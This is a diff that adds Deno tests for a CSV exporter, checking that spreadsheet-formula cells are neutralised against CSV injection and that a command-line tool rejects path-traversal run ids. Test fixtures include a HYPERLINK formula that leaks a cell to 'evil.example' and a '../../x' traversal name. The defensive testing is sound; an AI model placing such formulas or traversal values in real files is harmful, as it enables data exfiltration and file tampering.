@@ -1,6 +1,8 @@
 import assert from "node:assert/strict";
 import { csvField, recordsToCsv } from "./export_csv.ts";
+import { join } from "node:path";
 import type { RunRecord } from "./record.ts";
+import { listTree, testRecord, writeRawJson } from "./record_testing.ts";
 
 /** A small RFC 4180 parser (quoted fields, doubled quotes, CRLF rows), independent of the writer. */
 function parseCsv(text: string): string[][] {
@@ -88,4 +90,74 @@ Deno.test("csv export: one row per record, one column per metric, union over rec
   assert.equal(get(rows[0], "bits_per_frozen_param"), "4.5");
   assert.equal(get(rows[1], "status"), "failed");
   assert.equal(get(rows[1], "error"), 'loss became NaN at step 3; lower --lr, "really"\nsecond line');
+});
+
+Deno.test("csv: formula-leading text gets an apostrophe (OWASP CSV injection); numbers stay numeric", () => {
+  for (const cell of ['=HYPERLINK("http://x","y")', "+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=1"]) {
+    assert.ok(csvField(cell).replace(/^"/, "").startsWith("'"), `not neutralised: ${JSON.stringify(cell)}`);
+  }
+  assert.equal(csvField("=1+2"), "'=1+2");
+  assert.equal(csvField('=HYPERLINK("a","b")'), `"'=HYPERLINK(""a"",""b"")"`);
+  assert.equal(csvField("\r=1"), `"'\r=1"`);
+  // Plain numbers, typed or as text, are left alone: a spreadsheet reads them as numbers.
+  assert.equal(csvField(-0.5), "-0.5");
+  assert.equal(csvField("-0.5"), "-0.5");
+  assert.equal(csvField("+3"), "+3");
+  assert.equal(csvField(-1e-7), "-1e-7");
+  assert.equal(csvField("a=b"), "a=b");
+  assert.equal(csvField(NaN), "");
+});
+
+Deno.test("csv export: a dataset named =HYPERLINK(...) is text in the CSV; a negative metric stays a number", () => {
+  const r = testRecord("r1", (x) => {
+    x.config.dataset = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
+    x.name = "@SUM(1+1)";
+    x.metrics = { accuracy: 0.5, delta: -0.5 };
+  });
+  const [header, row] = parseCsv(recordsToCsv([r]));
+  const get = (col: string) => row[header.indexOf(col)];
+  assert.equal(get("dataset"), `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`);
+  assert.equal(get("name"), "'@SUM(1+1)");
+  assert.equal(get("delta"), "-0.5");
+  assert.equal(get("accuracy"), "0.5");
+  for (const cell of row) assert.ok(!/^[=+@\t\r]/.test(cell) && !/^-[^0-9.]/.test(cell), cell);
+});
+
+Deno.test("export-csv CLI: a record with an unsafe runId or a missing field is exit 2, one line naming the file", async () => {
+  const root = await Deno.makeTempDir();
+  try {
+    const cli = async () => {
+      const out = await new Deno.Command(Deno.execPath(), {
+        args: [
+          "run",
+          "--allow-read",
+          "--allow-write",
+          "--allow-env",
+          new URL("./export_csv.ts", import.meta.url).pathname,
+          "--results",
+          root,
+          "--out",
+          join(root, "out.csv"),
+        ],
+        stdout: "piped",
+        stderr: "piped",
+      }).output();
+      return { code: out.code, err: new TextDecoder().decode(out.stderr) };
+    };
+    const evil = await writeRawJson(root, "x.json", testRecord("../../x"));
+    let res = await cli();
+    assert.equal(res.code, 2, res.err);
+    assert.equal(res.err.trim().split("\n").length, 1, res.err);
+    assert.ok(res.err.startsWith(`error: ${evil}: run id "../../x" is not a safe file name`), res.err);
+    await Deno.remove(evil);
+    const { config: _c, ...noConfig } = testRecord("y");
+    const bad = await writeRawJson(root, "y.json", noConfig);
+    res = await cli();
+    assert.equal(res.code, 2, res.err);
+    assert.ok(res.err.startsWith(`error: ${bad}: config: `), res.err);
+    assert.doesNotMatch(res.err, /Cannot read properties/);
+    assert.deepEqual(await listTree(root), ["y.json"]);
+  } finally {
+    await Deno.remove(root, { recursive: true });
+  }
 });
